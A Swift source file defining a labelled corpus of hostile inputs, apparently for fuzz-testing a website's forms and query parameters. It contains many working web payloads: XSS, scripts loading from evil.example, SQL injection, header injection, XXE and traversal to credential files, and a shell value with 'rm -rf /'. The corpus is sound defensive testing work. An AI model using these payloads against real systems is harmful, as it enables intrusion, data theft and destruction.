import Foundation

/// One hostile value, labelled, as it travels in a URL-encoded form body or a query string.
public struct HostileInput: Sendable, CustomStringConvertible {
    public enum Family: String, Sendable, CaseIterable {
        case script, handler, breakout, url, markdown, sql, control, encoding, unicode, size, traversal,
             number, date, choice, header, template, format, email, filler
    }

    public let label: String
    public let family: Family
    /// Percent-encoded (`application/x-www-form-urlencoded`), ready for a body or a query.
    public let encoded: String

    public var description: String { "\(family.rawValue): \(label)" }

    /// Text, encoded as a browser would send it.
    init(_ family: Family, _ label: String, _ text: String) {
        self.family = family
        self.label = label
        self.encoded = HostileCorpus.percentEncode(text)
    }

    /// Bytes a browser would never send (invalid UTF-8, stray `%`), already percent-encoded.
    init(_ family: Family, _ label: String, encoded: String) {
        self.family = family
        self.label = label
        self.encoded = encoded
    }

    /// What the server reads: the bytes decoded as the WHATWG URL-encoded parser does (`+` is a
    /// space, a `%` without two hex digits stays as it is, invalid UTF-8 becomes U+FFFD), then
    /// normalised by the documented rule for form text: control characters other than tab, line
    /// feed and carriage return are dropped.
    public var received: String { HostileCorpus.normalise(HostileCorpus.formDecode(encoded)) }

    /// `received`, trimmed of white space, as a single-line or multi-line field stores it.
    public var stored: String { received.trimmingCharacters(in: .whitespacesAndNewlines) }

    public var isLarge: Bool { encoded.utf8.count > 50_000 }
}

/// At least 200 hostile values: markup in many spellings, URL schemes that run script, SQL,
/// control characters and invalid UTF-8, very large values, traversal, wrong types, header and
/// template injection. Every form and query parameter of the site is driven with them.
public enum HostileCorpus {
    public static let all: [HostileInput] = scripts + handlers + breakouts + urls + markdown + sql + controls + encodings
        + unicode + sizes + traversal + numbers + dates + choices + headers + templates + formats + emails + fillers

    public static func family(_ family: HostileInput.Family) -> [HostileInput] { all.filter { $0.family == family } }

    static let scripts: [HostileInput] = [
        .init(.script, "lower-case script tag", "<script>alert(1)</script>"),
        .init(.script, "upper-case script tag", "<SCRIPT>alert(1)</SCRIPT>"),
        .init(.script, "mixed-case script tag", "<ScRiPt>alert(1)</sCrIpT>"),
        .init(.script, "script with protocol-relative src", "<script src=//evil.example/x.js></script>"),
        .init(.script, "script with slash instead of space", #"<script/src="//evil.example/x.js"></script>"#),
        .init(.script, "script with spaces before >", "<script >alert(1)</script >"),
        .init(.script, "doubled angle bracket", "<<script>alert(1)//<</script>"),
        .init(.script, "nested tag to survive stripping", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
        .init(.script, "closes script first (JSON-LD breakout)", "</script><script>alert(1)</script>"),
        .init(.script, "closes title", "</title><script>alert(1)</script>"),
        .init(.script, "closes textarea", "</textarea><script>alert(1)</script>"),
        .init(.script, "closes double-quoted attribute", #""><script>alert(1)</script>"#),
        .init(.script, "closes single-quoted attribute", "'><script>alert(1)</script>"),
        .init(.script, "script with fromCharCode", "<script>alert(String.fromCharCode(88,83,83))</script>"),
        .init(.script, "already-escaped entities", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        .init(.script, "numeric entities", "&#60;script&#62;alert(1)&#60;/script&#62;"),
        .init(.script, "JSON unicode escapes", #"\u003cscript\u003ealert(1)\u003c/script\u003e"#),
        .init(.script, "module script", "<script type=\"module\">import('//evil.example/x.js')</script>"),
        .init(.script, "noscript title trick", #"<noscript><p title="</noscript><img src=x onerror=alert(1)>">"#),
        .init(.script, "template element", "<template><script>alert(1)</script></template>"),
        .init(.script, "comment-wrapped script", "<!--<script>-->alert(1)<!--</script>-->"),
        .init(.script, "CDATA-wrapped script", "<![CDATA[<script>alert(1)</script>]]>"),
        .init(.script, "unterminated script tag", "<script>/*"),
        .init(.script, "style import", "<style>@import'//evil.example/x.css';</style>"),
        .init(.script, "style with javascript url", #"<style>*{background:url("javascript:alert(1)")}</style>"#),
    ]

    static let handlers: [HostileInput] = [
        .init(.handler, "img onerror", "<img src=x onerror=alert(1)>"),
        .init(.handler, "IMG OnErRoR mixed case", "<IMG SRC=x OnErRoR=alert(1)>"),
        .init(.handler, "img onerror quoted", #"<img src=x onerror="alert(1)">"#),
        .init(.handler, "img onerror unclosed", "<img src=x onerror=alert(1)//"),
        .init(.handler, "img with slashes for spaces", "<img/src=x/onerror=alert(1)>"),
        .init(.handler, "img onerror after tab", "<img src=x\tonerror=alert(1)>"),
        .init(.handler, "img onerror after newline", "<img src=x\nonerror=alert(1)>"),
        .init(.handler, "svg onload", "<svg onload=alert(1)>"),
        .init(.handler, "svg/onload", "<svg/onload=alert(1)>"),
        .init(.handler, "script inside svg", "<svg><script>alert(1)</script></svg>"),
        .init(.handler, "svg animate onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
        .init(.handler, "body onload", "<body onload=alert(1)>"),
        .init(.handler, "iframe javascript src", #"<iframe src="javascript:alert(1)"></iframe>"#),
        .init(.handler, "iframe srcdoc", #"<iframe srcdoc="<script>alert(1)</script>"></iframe>"#),
        .init(.handler, "object data javascript", #"<object data="javascript:alert(1)"></object>"#),
        .init(.handler, "embed src javascript", #"<embed src="javascript:alert(1)">"#),
        .init(.handler, "details ontoggle", "<details open ontoggle=alert(1)>"),
        .init(.handler, "video source onerror", "<video><source onerror=alert(1)></video>"),
        .init(.handler, "audio onerror", "<audio src=x onerror=alert(1)>"),
        .init(.handler, "input autofocus onfocus", "<input autofocus onfocus=alert(1)>"),
        .init(.handler, "marquee onstart", "<marquee onstart=alert(1)>"),
        .init(.handler, "mathml mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
        .init(.handler, "anchor javascript href", #"<a href="javascript:alert(1)">click</a>"#),
        .init(.handler, "form action javascript", #"<form action="javascript:alert(1)"><button>go</button></form>"#),
        .init(.handler, "button formaction", #"<button formaction="javascript:alert(1)">go</button>"#),
        .init(.handler, "base href", #"<base href="//evil.example/">"#),
        .init(.handler, "meta refresh", #"<meta http-equiv="refresh" content="0;url=javascript:alert(1)">"#),
        .init(.handler, "link import", "<link rel=import href=//evil.example>"),
        .init(.handler, "style expression", #"<div style="width:expression(alert(1))">"#),
        .init(.handler, "custom element onpointerenter", "<x onpointerenter=alert(1)>hover</x>"),
    ]

    static let breakouts: [HostileInput] = [
        .init(.breakout, "double quote then handler", #"" onmouseover="alert(1)"#),
        .init(.breakout, "single quote then handler", "' onmouseover='alert(1)"),
        .init(.breakout, "autofocus onfocus", #"" autofocus onfocus="alert(1)"#),
        .init(.breakout, "double quote then img", #""><img src=x onerror=alert(1)>"#),
        .init(.breakout, "single quote then img", "'><img src=x onerror=alert(1)>"),
        .init(.breakout, "style attribute", #"" style="background:url(javascript:alert(1))"#),
        .init(.breakout, "backslash-escaped quote", #"\" onmouseover=\"alert(1)"#),
        .init(.breakout, "backtick attribute", "` onmouseover=alert(1) `"),
        .init(.breakout, "unquoted attribute", "x onmouseover=alert(1)"),
        .init(.breakout, "entity-encoded quotes", "&quot; onmouseover=&quot;alert(1)"),
        .init(.breakout, "numeric-entity quotes", "&#34; onmouseover=&#34;alert(1)"),
        .init(.breakout, "self-closing then script", #""/><script>alert(1)</script>"#),
        .init(.breakout, "quote then svg", #"" ><svg onload=alert(1)>"#),
        .init(.breakout, "JavaScript string breakout", "';alert(1);//"),
        .init(.breakout, "JavaScript expression breakout", #""-alert(1)-""#),
        .init(.breakout, "closes option and select", "</option></select><img src=x onerror=alert(1)>"),
    ]

    static let urls: [HostileInput] = [
        .init(.url, "javascript:", "javascript:alert(1)"),
        .init(.url, "JaVaScRiPt: mixed case", "JaVaScRiPt:alert(1)"),
        .init(.url, "JAVASCRIPT: upper case", "JAVASCRIPT:alert(1)"),
        .init(.url, "leading space javascript:", " javascript:alert(1)"),
        .init(.url, "java<tab>script:", "java\tscript:alert(1)"),
        .init(.url, "java<newline>script:", "java\nscript:alert(1)"),
        .init(.url, "java<CR>script:", "java\rscript:alert(1)"),
        .init(.url, "java<NUL>script:", "java\u{0}script:alert(1)"),
        .init(.url, "control character before javascript:", "\u{1}javascript:alert(1)"),
        .init(.url, "javascript&colon;", "javascript&colon;alert(1)"),
        .init(.url, "javascript&#58;", "javascript&#58;alert(1)"),
        .init(.url, "entity-encoded j", "&#106;avascript:alert(1)"),
        .init(.url, "javascript with newline comment", "javascript://%0aalert(1)"),
        .init(.url, "javascript polyglot", "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>"),
        .init(.url, "fullwidth javascript", "ｊａｖａｓｃｒｉｐｔ:alert(1)"),
        .init(.url, "percent-encoded javascript typed", "%6A%61%76%61%73%63%72%69%70%74:alert(1)"),
        .init(.url, "vbscript:", "vbscript:msgbox(1)"),
        .init(.url, "VBScript: mixed case", "VBScript:msgbox(1)"),
        .init(.url, "data:text/html base64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
        .init(.url, "data:text/html plain", "data:text/html,<script>alert(1)</script>"),
        .init(.url, "DATA: upper case", "DATA:text/html,<script>alert(1)</script>"),
        .init(.url, "data: svg image", "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"),
        .init(.url, "data: javascript", "data:application/javascript,alert(1)"),
        .init(.url, "protocol-relative", "//evil.example/"),
        .init(.url, "slash backslash", "/\\evil.example/"),
        .init(.url, "backslash slash", "\\/evil.example/"),
        .init(.url, "http with attribute breakout", #"http://evil.example/" onmouseover="alert(1)"#),
        .init(.url, "https with script in path", "https://example.org/<script>alert(1)</script>"),
        .init(.url, "https with markup in fragment", "https://example.org/#<img src=x onerror=alert(1)>"),
        .init(.url, "https with markup in query", #"https://example.org/?q="><script>alert(1)</script>"#),
        .init(.url, "mailto with markup", "mailto:x@example.org?body=<script>alert(1)</script>"),
        .init(.url, "file:", "file:///etc/passwd"),
        .init(.url, "ftp:", "ftp://evil.example/"),
        .init(.url, "credentials in URL", "https://user:pass@evil.example/"),
        .init(.url, "internationalised domain", "https://例え.jp/パス"),
        .init(.url, "https with tab inside", "https://exa\tmple.org/"),
        .init(.url, "https with space inside", "https://example.org/a b"),
        .init(.url, "https with right-to-left override", "https://example.org/\u{202E}fdp.exe"),
    ]

    static let markdown: [HostileInput] = [
        .init(.markdown, "link to javascript:", "[click](javascript:alert(1))"),
        .init(.markdown, "link to JaVaScRiPt:", "[click](JaVaScRiPt:alert(1))"),
        .init(.markdown, "link to data:text/html", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
        .init(.markdown, "link to vbscript:", "[click](vbscript:msgbox(1))"),
        .init(.markdown, "link with spaces around javascript:", "[click](  javascript:alert(1)  )"),
        .init(.markdown, "link in angle brackets", "[click](<javascript:alert(1)>)"),
        .init(.markdown, "image from javascript:", "![x](javascript:alert(1))"),
        .init(.markdown, "image from data:", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
        .init(.markdown, "image from another site", "![x](https://evil.example/track.png)"),
        .init(.markdown, "image alt breakout", #"![x" onerror="alert(1)](/x.png)"#),
        .init(.markdown, "image src breakout", #"![x](/x.png" onerror="alert(1))"#),
        .init(.markdown, "link target breakout", #"[x](/x" onmouseover="alert(1))"#),
        .init(.markdown, "link title breakout", #"[x](https://example.org "t\" onmouseover=\"alert(1)")"#),
        .init(.markdown, "autolink javascript:", "<javascript:alert(1)>"),
        .init(.markdown, "reference link to javascript:", "[a][1]\n\n[1]: javascript:alert(1)"),
        .init(.markdown, "markup as link text", "[<img src=x onerror=alert(1)>](https://example.org)"),
        .init(.markdown, "script in code span", "`<script>alert(1)</script>`"),
        .init(.markdown, "script in fenced code", "```\n<script>alert(1)</script>\n```"),
        .init(.markdown, "script in indented code", "    <script>alert(1)</script>"),
        .init(.markdown, "img in block quote", "> <img src=x onerror=alert(1)>"),
        .init(.markdown, "script in heading", "# <script>alert(1)</script>"),
        .init(.markdown, "javascript link in a list", "* [x](javascript:alert(1))\n* two"),
        .init(.markdown, "script in a table", "| a |\n|---|\n| <script>alert(1)</script> |"),
        .init(.markdown, "svg in strong", "**<svg onload=alert(1)>**"),
        .init(.markdown, "html block", "<div>\n<script>alert(1)</script>\n</div>"),
        .init(.markdown, "5000 open brackets", String(repeating: "[", count: 5000)),
        .init(.markdown, "10000 asterisks", String(repeating: "*", count: 10000)),
        .init(.markdown, "deeply nested quotes", String(repeating: ">", count: 2000) + " x"),
    ]

    static let sql: [HostileInput] = [
        .init(.sql, "drop table", "'; DROP TABLE users; --"),
        .init(.sql, "or 1=1", "' OR 1=1 --"),
        .init(.sql, "double-quote or", #"" OR ""=""#),
        .init(.sql, "stacked delete", "1; DELETE FROM settings"),
        .init(.sql, "union select", "' UNION SELECT password_hash, email FROM users --"),
        .init(.sql, "single backslash", "\\"),
        .init(.sql, "double backslash", "\\\\"),
        .init(.sql, "backslash quote", "\\'"),
        .init(.sql, "single quote", "'"),
        .init(.sql, "two single quotes", "''"),
        .init(.sql, "percent wildcard", "%"),
        .init(.sql, "underscore wildcard", "_"),
        .init(.sql, "LIKE escape clause", "%_%' ESCAPE '"),
        .init(.sql, "MySQL sleep", "1' AND SLEEP(5)#"),
        .init(.sql, "pg_sleep", "'; SELECT pg_sleep(5); --"),
        .init(.sql, "dollar quoting", "$$; DROP TABLE users; $$"),
        .init(.sql, "escape string", #"E'\\x00'"#),
        .init(.sql, "collate", #"x' COLLATE "C" --"#),
        .init(.sql, "comment out password check", "admin'--"),
        .init(.sql, "numeric tautology", "1 OR 1=1"),
        .init(.sql, "attach database", "ATTACH DATABASE '/tmp/x.db' AS x; --"),
        .init(.sql, "pragma", "; PRAGMA writable_schema=1; --"),
        .init(.sql, "FTS5 query syntax", #"title:"x" OR NEAR(a b) AND -c* ^d"#),
        .init(.sql, "tsquery syntax", "!x & (y | z):* <-> w"),
    ]

    static let controls: [HostileInput] = [
        .init(.control, "NUL in the middle", "a\u{0}b"),
        .init(.control, "NUL alone", "\u{0}"),
        .init(.control, "NUL at the end", "Title\u{0}"),
        .init(.control, "percent-zero-zero typed", "%00"),
        .init(.control, "C0 controls", "a\u{1}\u{2}\u{3}\u{1F}b"),
        .init(.control, "DEL", "a\u{7F}b"),
        .init(.control, "backspace", "\u{8}\u{8}backspace"),
        .init(.control, "CRLF inside", "line one\r\nline two"),
        .init(.control, "ANSI escape", "\u{1B}[31mred\u{1B}[0m"),
        .init(.control, "form feed", "a\u{C}b"),
        .init(.control, "vertical tab", "a\u{B}b"),
        .init(.control, "tabs around", "\t\ttabs\t"),
        .init(.control, "C1 next line", "a\u{85}b"),
        .init(.control, "line and paragraph separators", "a\u{2028}b\u{2029}c"),
        .init(.control, "only line breaks", "\n\n\r\n"),
    ]

    static let encodings: [HostileInput] = [
        .init(.encoding, "invalid two-byte sequence C3 28", encoded: "%C3%28"),
        .init(.encoding, "byte FF", encoded: "%FF"),
        .init(.encoding, "UTF-16 byte order mark bytes", encoded: "%FE%FF"),
        .init(.encoding, "overlong slash C0 AF", encoded: "%C0%AF"),
        .init(.encoding, "overlong slash E0 80 AF", encoded: "%E0%80%AF"),
        .init(.encoding, "lone high surrogate ED A0 80", encoded: "%ED%A0%80"),
        .init(.encoding, "lone low surrogate ED B0 80", encoded: "%ED%B0%80"),
        .init(.encoding, "surrogate pair in CESU-8", encoded: "%ED%A0%BD%ED%B8%80"),
        .init(.encoding, "beyond U+10FFFF", encoded: "%F4%90%80%80"),
        .init(.encoding, "lone continuation byte", encoded: "a%80b"),
        .init(.encoding, "truncated three-byte sequence", encoded: "x%E2%82"),
        .init(.encoding, "truncated emoji", encoded: "%F0%9F%98"),
        .init(.encoding, "overlong angle brackets", encoded: "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
        .init(.encoding, "percent without hex digits", encoded: "100%"),
        .init(.encoding, "percent with bad hex", encoded: "%zz%G0"),
        .init(.encoding, "double percent", encoded: "%%32%65"),
        .init(.encoding, "trailing percent", encoded: "a%"),
        .init(.encoding, "UTF-8 byte order mark mid-value", encoded: "te%EF%BB%BFxt"),
        .init(.encoding, "literal plus is a space", encoded: "a+b+c"),
        .init(.encoding, "invalid UTF-8 around markup", encoded: "%FF%3Cscript%3Ealert(1)%3C/script%3E%FF"),
        .init(.encoding, "NUL bytes around markup", encoded: "%00%3Cscript%3E%00alert(1)%00"),
        .init(.encoding, "Latin-1 e acute", encoded: "caf%E9"),
    ]

    static let unicode: [HostileInput] = [
        .init(.unicode, "right-to-left override file name", "\u{202E}gnp.exe"),
        .init(.unicode, "right-to-left override before markup", "\u{202E}<script>alert(1)</script>"),
        .init(.unicode, "zero-width space in javascript:", "java\u{200B}script:alert(1)"),
        .init(.unicode, "family emoji (ZWJ sequence)", "👩‍👩‍👧‍👦"),
        .init(.unicode, "zalgo combining marks", "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇"),
        .init(.unicode, "byte order mark first", "\u{FEFF}text"),
        .init(.unicode, "fullwidth angle brackets", "＜script＞alert(1)＜/script＞"),
        .init(.unicode, "Cyrillic homoglyph", "аdmin"),
        .init(.unicode, "ligature and sharp s", "ﬁnance Straße"),
        .init(.unicode, "dotted capital I", "İstanbul"),
        .init(.unicode, "Arabic", "مدن من أجل الأطفال"),
        .init(.unicode, "Japanese", "子どものための都市"),
        .init(.unicode, "emoji only", "🏙️🧒"),
        .init(.unicode, "decomposed accent", "e\u{301}cole"),
        .init(.unicode, "replacement character", "\u{FFFD}"),
        .init(.unicode, "noncharacter U+FFFF", "a\u{FFFF}b"),
        .init(.unicode, "private use", "\u{E000}\u{F8FF}"),
        .init(.unicode, "last code point", "\u{10FFFF}"),
        .init(.unicode, "word joiner and soft hyphen", "a\u{2060}b\u{AD}c"),
        .init(.unicode, "no-break spaces only", "\u{A0}\u{A0}"),
        .init(.unicode, "ideographic space only", "\u{3000}"),
        .init(.unicode, "mathematical bold letters", "𝐬𝐜𝐫𝐢𝐩𝐭"),
    ]

    static let sizes: [HostileInput] = [
        .init(.size, "100 KB of one letter", String(repeating: "a", count: 100 * 1024)),
        .init(.size, "100 KB of script tags", String(repeating: "<script>alert(1)</script>", count: 4096)),
        .init(.size, "100 KB of two-byte letters", String(repeating: "é", count: 50 * 1024)),
        .init(.size, "100 KB of lines", String(repeating: "a | b | c\n", count: 10 * 1024)),
        .init(.size, "1.1 MB", String(repeating: "b", count: 1_100_000)),
        .init(.size, "201 characters", String(repeating: "x", count: 201)),
        .init(.size, "a word of 5000 letters", String(repeating: "w", count: 5000)),
        .init(.size, "200 family emoji", String(repeating: "👩‍👩‍👧‍👦", count: 200)),
    ]

    static let traversal: [HostileInput] = [
        .init(.traversal, "dot-dot slash", "../../etc/passwd"),
        .init(.traversal, "dot-dot backslash", "..\\..\\windows\\win.ini"),
        .init(.traversal, "percent-encoded dot-dot typed", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        .init(.traversal, "double-encoded dot-dot typed", "%252e%252e%252fetc%252fpasswd"),
        .init(.traversal, "overlong slash typed", "..%c0%af..%c0%afetc/passwd"),
        .init(.traversal, "absolute path", "/etc/passwd"),
        .init(.traversal, "doubled dots", "....//....//etc/passwd"),
        .init(.traversal, "semicolon path parameter", "..;/admin"),
        .init(.traversal, "admin path with dot-dot", "/admin/../admin/users"),
        .init(.traversal, "Windows drive", "C:\\Windows\\System32"),
        .init(.traversal, "UNC path", "\\\\server\\share"),
        .init(.traversal, "home directory", "~/.ssh/id_rsa"),
        .init(.traversal, "single dot", "."),
        .init(.traversal, "two dots", ".."),
    ]

    static let numbers: [HostileInput] = [
        .init(.number, "minus one", "-1"),
        .init(.number, "zero", "0"),
        .init(.number, "minus zero", "-0"),
        .init(.number, "plus one", "+1"),
        .init(.number, "fraction", "1.5"),
        .init(.number, "exponent", "1e3"),
        .init(.number, "1e309 (overflows a double)", "1e309"),
        .init(.number, "-1e309", "-1e309"),
        .init(.number, "NaN", "NaN"),
        .init(.number, "Infinity", "Infinity"),
        .init(.number, "hexadecimal", "0x10"),
        .init(.number, "leading zero", "017"),
        .init(.number, "underscore separator", "1_000"),
        .init(.number, "Int64 max", "9223372036854775807"),
        .init(.number, "Int64 max + 1", "9223372036854775808"),
        .init(.number, "Int64 min", "-9223372036854775808"),
        .init(.number, "Int64 min - 1", "-9223372036854775809"),
        .init(.number, "99999999999999999999", "99999999999999999999"),
        .init(.number, "40 nines", String(repeating: "9", count: 40)),
        .init(.number, "Arabic-Indic digits", "١٢٣"),
        .init(.number, "fullwidth digits", "１２３"),
        .init(.number, "digits with spaces around", "  42  "),
        .init(.number, "digits then letters", "42abc"),
        .init(.number, "letters", "abc"),
        .init(.number, "true", "true"),
        .init(.number, "null", "null"),
        .init(.number, "JSON array", "[1,2]"),
        .init(.number, "JSON operator object", #"{"$gt":""}"#),
        .init(.number, "comma list", "1,2,3"),
        .init(.number, "minus sign only", "-"),
    ]

    static let dates: [HostileInput] = [
        .init(.date, "February 31st", "2026-02-31"),
        .init(.date, "month 13", "2026-13-01"),
        .init(.date, "month zero", "2026-00-10"),
        .init(.date, "year zero", "0000-01-01"),
        .init(.date, "year 9999", "9999-12-31"),
        .init(.date, "negative year", "-0001-01-01"),
        .init(.date, "no leading zeros", "2026-1-1"),
        .init(.date, "slashes", "2026/01/01"),
        .init(.date, "day first", "31/01/2026"),
        .init(.date, "hour 25", "2026-01-01T25:00"),
        .init(.date, "minute 60", "2026-01-01T23:60"),
        .init(.date, "skipped by a clock change in Europe", "2026-03-29T02:30"),
        .init(.date, "with Z", "2026-12-10T14:00:00Z"),
        .init(.date, "with an offset", "2026-12-10T14:00+05:00"),
        .init(.date, "space instead of T", "2026-12-10 14:00"),
        .init(.date, "word today", "today"),
        .init(.date, "epoch seconds", "1700000000"),
        .init(.date, "five-digit year", "10000-01-01T00:00"),
        .init(.date, "year 275760", "275760-09-13T00:00"),
        .init(.date, "zone on Mars", "Mars/Olympus_Mons"),
        .init(.date, "zone traversal", "../../../etc/localtime"),
        .init(.date, "zone with NUL", "UTC\u{0}"),
        .init(.date, "zone with shell", "Europe/London; rm -rf /"),
        .init(.date, "zone Etc/GMT+99", "Etc/GMT+99"),
        .init(.date, "zone as offset", "+05:00"),
        .init(.date, "zone lower case", "utc"),
    ]

    static let choices: [HostileInput] = [
        .init(.choice, "upper-case action", "PUBLISH"),
        .init(.choice, "action with NUL", "publish\u{0}"),
        .init(.choice, "role administrator", "administrator"),
        .init(.choice, "role with trailing space", "administrator "),
        .init(.choice, "role capitalised", "Administrator"),
        .init(.choice, "role admin", "admin"),
        .init(.choice, "role root", "root"),
        .init(.choice, "status deleted", "deleted"),
        .init(.choice, "status scheduled", "scheduled"),
        .init(.choice, "choice on", "on"),
        .init(.choice, "choice yes", "yes"),
        .init(.choice, "choice off", "off"),
        .init(.choice, "language xx", "xx"),
        .init(.choice, "language upper case", "FR"),
        .init(.choice, "language list with unknown", "en,xx,fr"),
        .init(.choice, "sort by SQL", "title; DROP TABLE users"),
    ]

    static let headers: [HostileInput] = [
        .init(.header, "CRLF Set-Cookie", "\r\nSet-Cookie: c4c_session=stolen"),
        .init(.header, "encoded CRLF typed", "%0d%0aSet-Cookie:%20c4c_session=stolen"),
        .init(.header, "LF Location", "/admin\nLocation: https://evil.example/"),
        .init(.header, "response splitting", "\r\n\r\n<script>alert(1)</script>"),
        .init(.header, "redirect to another site", "https://evil.example/"),
        .init(.header, "protocol-relative redirect", "//evil.example/admin"),
        .init(.header, "backslash redirect", "/\\evil.example"),
        .init(.header, "admin path then another host", "/admin@evil.example"),
        .init(.header, "admin path with CRLF", "/admin\r\nSet-Cookie: x=1"),
        .init(.header, "admin path with javascript", "/admin/../javascript:alert(1)"),
        .init(.header, "encoded word", "=?UTF-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?="),
        .init(.header, "mail header injection", "Hello\r\nBcc: victim@example.org"),
    ]

    static let templates: [HostileInput] = [
        .init(.template, "catalog lookup", "{{t.admin_dashboard}}"),
        .init(.template, "triple mustache", "{{{x}}}"),
        .init(.template, "section leaking the CSRF token", "{{#frame}}{{csrf}}{{/frame}}"),
        .init(.template, "bare csrf", "{{csrf}}"),
        .init(.template, "partial", "{{> layout}}"),
        .init(.template, "delimiter change", "{{=<% %>=}}<% csrf %>"),
        .init(.template, "comment", "{{! hidden }}"),
        .init(.template, "inverted section", "{{^x}}y{{/x}}"),
        .init(.template, "arithmetic", "{{7*7}}"),
        .init(.template, "JavaScript template literal", "${7*7}"),
        .init(.template, "Ruby interpolation", "#{7*7}"),
        .init(.template, "ERB", "<%= 7*7 %>"),
        .init(.template, "catalog placeholder count", "{count}"),
        .init(.template, "catalog placeholder query", "{query}"),
        .init(.template, "format specifiers", "%@ %n %s %s %s %d"),
    ]

    static let formats: [HostileInput] = [
        .init(.format, "CDATA end", "]]><script>alert(1)</script>"),
        .init(.format, "bare ampersands", "&&&&"),
        .init(.format, "NUL entity", "&#0;&#x0;"),
        .init(.format, "surrogate entity", "&#xD800;"),
        .init(.format, "XML external entity", #"<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>"#),
        .init(.format, "iCalendar injection", "Talk\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil"),
        .init(.format, "spreadsheet formula", "=HYPERLINK(\"http://evil.example\",\"x\")"),
        .init(.format, "spreadsheet command", "+cmd|'/c calc'!A0"),
        .init(.format, "JSON-LD object", #"{"@type":"Person","name":"x"}"#),
        .init(.format, "JSON string breakout", #""}]}</script><script>alert(1)</script>"#),
        .init(.format, "line separator before script end", "\u{2028}</script>"),
        .init(.format, "BibTeX breakout", "x}, title = {pwned"),
        .init(.format, "RIS breakout", "x\r\nER  - \r\nTY  - JOUR"),
        .init(.format, "too many columns", "a | b | c | d | e"),
        .init(.format, "pipes only", "| | |"),
        .init(.format, "attachment for a missing file", "999999 missing.pdf | en | Report"),
        .init(.format, "attachment with unknown language", "1 file.pdf | xx | Report"),
        .init(.format, "attachment number overflow", "99999999999999999999 x.pdf | en | x"),
    ]

    static let emails: [HostileInput] = [
        .init(.email, "quoted local part with markup", #""<script>alert(1)</script>"@example.org"#),
        .init(.email, "markup after the domain", "x@example.org<script>"),
        .init(.email, "javascript local part", "javascript:alert(1)//@example.org"),
        .init(.email, "address literal", "test@[127.0.0.1]"),
        .init(.email, "at sign only", "@"),
        .init(.email, "no dot in domain", "a@b"),
        .init(.email, "two at signs", "a@@b.c"),
        .init(.email, "with Bcc header", "a@example.org\r\nBcc: b@example.org"),
        .init(.email, "with NUL", "a@example.org\u{0}"),
        .init(.email, "300 characters", String(repeating: "a", count: 290) + "@example.org"),
        .init(.email, "valid and ordinary", "someone@example.org"),
        .init(.email, "valid with plus tag", "someone+tag@example.org"),
        .init(.email, "SQL in local part", "'OR'1'='1@example.org"),
    ]

    static let fillers: [HostileInput] = [
        .init(.filler, "empty", ""),
        .init(.filler, "spaces only", "   "),
        .init(.filler, "hyphen between spaces", " - "),
        .init(.filler, "double hyphen", "--"),
        .init(.filler, "an ordinary word", "Streets"),
    ]

    // MARK: Encoding

    private static let unreserved: Set<UInt8> = Set(Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~".utf8))

    /// Every byte outside the unreserved set as `%XX`, as a browser encodes a form.
    public static func percentEncode(_ text: String) -> String {
        var output = ""
        output.reserveCapacity(text.utf8.count * 2)
        for byte in text.utf8 {
            if unreserved.contains(byte) {
                output.unicodeScalars.append(Unicode.Scalar(byte))
            } else {
                output += "%" + String(byte, radix: 16, uppercase: true).leftPadded(to: 2)
            }
        }
        return output
    }

    /// WHATWG `application/x-www-form-urlencoded` value decoding: `+` is a space, `%XX` a byte, a
    /// `%` without two hex digits is kept, and the bytes are read as UTF-8 with U+FFFD for errors.
    public static func formDecode(_ encoded: String) -> String {
        let bytes = Array(encoded.utf8)
        var output: [UInt8] = []
        output.reserveCapacity(bytes.count)
        var index = 0
        func hex(_ byte: UInt8) -> UInt8? {
            switch byte {
            case 48...57: byte - 48
            case 65...70: byte - 55
            case 97...102: byte - 87
            default: nil
            }
        }
        while index < bytes.count {
            let byte = bytes[index]
            if byte == UInt8(ascii: "+") {
                output.append(32)
            } else if byte == UInt8(ascii: "%"), index + 2 < bytes.count,
                      let high = hex(bytes[index + 1]), let low = hex(bytes[index + 2]) {
                output.append(high << 4 | low)
                index += 2
            } else {
                output.append(byte)
            }
            index += 1
        }
        return String(decoding: output, as: UTF8.self)
    }

    /// Control characters other than tab, line feed and carriage return are dropped from form text.
    public static func normalise(_ text: String) -> String {
        var scalars = String.UnicodeScalarView()
        for scalar in text.unicodeScalars {
            let value = scalar.value
            if (value < 0x20 && value != 0x09 && value != 0x0A && value != 0x0D) || value == 0x7F { continue }
            scalars.append(scalar)
        }
        return String(scalars)
    }
}

extension String {
    fileprivate func leftPadded(to length: Int) -> String {
        count >= length ? self : String(repeating: "0", count: length - count) + self
    }
}
